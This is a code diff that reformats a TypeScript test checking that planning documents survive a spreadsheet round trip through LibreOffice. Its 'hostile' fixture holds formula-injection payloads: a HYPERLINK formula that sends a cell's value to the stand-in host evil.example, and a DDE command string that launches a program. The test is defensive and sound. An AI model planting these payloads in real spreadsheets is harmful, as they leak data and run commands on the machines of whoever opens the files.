@@ -20,14 +20,7 @@ const read = (path: string, name: string) => parse(readFileSync(path), { path: n
 /** A real plan whose cells hold what a hostile or unlucky document could: formulas, numbers, dates. */
 function hostile(): CchcDocument {
   const doc = read(fixturePath('clean-plan.txt'), 'hostile.txt');
-  const values = [
-    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
-    "=cmd|' /C calc'!A0",
-    '+1+1',
-    '-2+3',
-    '@SUM(1,2)',
-    '\t=1+1',
-  ];
+  const values = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(1,2)', '\t=1+1'];
   doc.tasks = values.map((content, i) => ({
     ...doc.tasks[i % doc.tasks.length]!,
     id: `PL-01/${i + 1}.10`,
@@ -48,7 +41,8 @@ function documents(): Array<{ name: string; doc: CchcDocument }> {
     { name: 'ocr-interleaved', doc: read(fixturePath('ocr/interleaved-table.txt'), 'interleaved-table.txt') },
     { name: 'hostile', doc: hostile() },
   ];
-  if (hasShared) for (const seed of ['000', '001', '002', '003', '004']) docs.push({ name: `seed-${seed}`, doc: read(seedPath(seed), `${seed}.txt`) });
+  if (hasShared)
+    for (const seed of ['000', '001', '002', '003', '004']) docs.push({ name: `seed-${seed}`, doc: read(seedPath(seed), `${seed}.txt`) });
   return docs;
 }
 
@@ -118,9 +112,15 @@ describe.skipIf(!soffice)('spreadsheet round trip (LibreOffice)', () => {
     const diffs: string[] = [];
     for (const { name, doc } of docs) {
       const sheets = sheetsOf([doc]);
-      expect(readdirSync(out).filter((f) => f.startsWith(`${name}-`)).sort()).toEqual(SHEET_NAMES.map((s) => `${name}-${s}.csv`).sort());
+      expect(
+        readdirSync(out)
+          .filter((f) => f.startsWith(`${name}-`))
+          .sort(),
+      ).toEqual(SHEET_NAMES.map((s) => `${name}-${s}.csv`).sort());
       for (const sheet of SHEET_NAMES) {
-        diffs.push(...differences(`${name}.xlsx ${sheet}`, asText(sheets[sheet]), parseCsv(readFileSync(join(out, `${name}-${sheet}.csv`), 'utf8'))));
+        diffs.push(
+          ...differences(`${name}.xlsx ${sheet}`, asText(sheets[sheet]), parseCsv(readFileSync(join(out, `${name}-${sheet}.csv`), 'utf8'))),
+        );
       }
     }
     expect(diffs).toEqual([]);
